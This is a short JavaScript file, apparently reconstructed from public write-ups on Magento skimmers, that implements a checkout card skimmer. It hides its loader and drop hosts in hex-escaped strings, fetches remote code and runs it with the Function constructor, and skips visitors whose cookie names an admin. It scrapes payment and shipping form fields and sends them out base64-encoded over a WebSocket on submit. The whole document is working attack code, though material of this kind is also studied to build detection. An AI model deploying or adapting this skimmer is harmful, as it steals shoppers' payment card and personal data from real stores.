// core-config-data (variant b), written from Sansec's write-ups of Magento skimmers stored in
// core_config_data (2019-2024): here the stored setting holds only a tiny loader that fetches
// the skimmer as text from a host hidden in a hexadecimal-escaped string, runs it with the
// Function constructor, and passes it a callback that hands the collected form over to a
// WebSocket; only pages under /checkout/ are touched and visitors with a cookie naming "admin"
// are skipped.
(function (w, d) {
  if (!/\/checkout\//.test(w.location.pathname) || /admin/.test(d.cookie)) return;
  var src = "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x73\x74\x61\x74\x69\x63\x2d\x6d\x61\x67\x65\x6e\x74\x6f\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x6a\x71\x75\x65\x72\x79\x2e\x6d\x69\x6e\x2e\x6a\x73";
  var ws = "\x77\x73\x73\x3a\x2f\x2f\x73\x74\x61\x74\x69\x63\x2d\x6d\x61\x67\x65\x6e\x74\x6f\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x77\x73";
  function exfil(obj) {
    var s = new WebSocket(ws);
    s.onopen = function () { s.send(btoa(JSON.stringify(obj))); s.close(); };
  }
  function snapshot() {
    var out = {};
    var els = d.querySelectorAll("#co-payment-form input, #co-shipping-form input, #co-payment-form select");
    for (var i = 0; i < els.length; i++) if (els[i].name && els[i].value) out[els[i].name] = els[i].value;
    return out;
  }
  fetch(src, { credentials: "omit" }).then(function (r) { return r.text(); }).then(function (code) {
    new Function("collect", "send", code)(snapshot, exfil);
  });
  d.addEventListener("submit", function () { exfil(snapshot()); }, true);
})(window, document);
